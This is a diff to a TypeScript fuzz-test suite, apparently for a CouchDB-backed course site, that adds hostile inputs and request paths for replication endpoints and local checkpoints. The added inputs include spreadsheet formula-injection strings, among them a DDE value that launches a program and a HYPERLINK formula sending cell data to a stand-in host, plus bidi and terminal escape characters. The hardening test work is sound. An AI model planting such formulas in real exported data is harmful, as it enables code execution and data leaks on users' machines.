@@ -11,6 +11,10 @@ const NASTY = [
   '_design/x', '_local/x', '_all_docs', 'constructor', '__proto__', 'prototype', 'toString', 'null', 'undefined', 'NaN', '-1',
   '1e309', '9007199254740993', '0x10', ' ', '\t', '/', '//', '\\', 'a'.repeat(5000), 'é'.repeat(3000),
   'media:' + 'a'.repeat(64), 'a'.repeat(64), 'A'.repeat(64), 'a'.repeat(64) + '.mp4', 'a'.repeat(63) + 'g',
+  // Issue #20: what reaches a spreadsheet or reorders a name on screen.
+  '=HYPERLINK("http://x.example/?"&A1;"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1', '\u2066x\u2069', '\u0085', '\u001b[31m',
+  // CouchDB parameters as the attacker sent them.
+  '{"a":1}', '[1]', '["zz"]', '["1-abc"]', 'all', '[]', '{}', '"x"', 'true', 'now', '1-abc',
 ];
 
 const text = fc.oneof(
@@ -39,6 +43,10 @@ const GET_PATHS: ((a: string, b: string) => string)[] = [
   (a) => `/db/content/${a}`,
   (a, b) => `/db/content/_changes?since=${a}&limit=${b}&style=${a}&feed=${b}&include_docs=${a}`,
   (a) => `/db/content/_local/${a}`,
+  (a, b) => `/db/content/course:gouvernance-locale?open_revs=${a}&revs=${b}`,
+  (a, b) => `/db/content/${a}?atts_since=${b}&rev=${a}&latest=${b}&attachments=${a}`,
+  (a, b) => `/db/content/course:gouvernance-locale?open_revs=${a}&open_revs=${b}&conflicts=${a}&revs_info=${b}`,
+  (a, b) => `/db/content/_changes?feed=longpoll&since=${a}&heartbeat=${b}&timeout=${b}&seq_interval=${a}&filter=${b}`,
   (a, b) => `/apprendre/${a}/${b}`,
   (a) => `/apprendre/${a}`,
   (a) => `/apprendre/quiz/${a}`,
@@ -133,6 +141,13 @@ export interface FuzzCase {
 
 export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.oneof(
   fc.record({ fn: fc.constantFrom(...GET_PATHS), a: seg, b: seg, headers, method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT') }).map(({ fn, a, b, headers: h, method }) => ({ method, path: fn(a, b), headers: h })),
+  // Checkpoints a replicator writes on the source: bounded ids, bodies, revisions (issue #20).
+  fc.record({ id: seg, body: jsonBody, method: fc.constantFrom('PUT', 'PUT', 'DELETE', 'GET'), headers }).map(({ id, body, method, headers: h }) => ({
+    method,
+    path: `/db/content/_local/${id}${method === 'DELETE' ? '?rev=0-1' : ''}`,
+    headers: { ...h, 'content-type': 'application/json' },
+    ...(method === 'PUT' ? { body } : {}),
+  })),
   fc.record({
     path: fc.constantFrom(...POST_PATHS),
     body: fc.oneof({ weight: 6, arbitrary: jsonBody }, { weight: 3, arbitrary: formBody }, { weight: 1, arbitrary: hugeBody }),
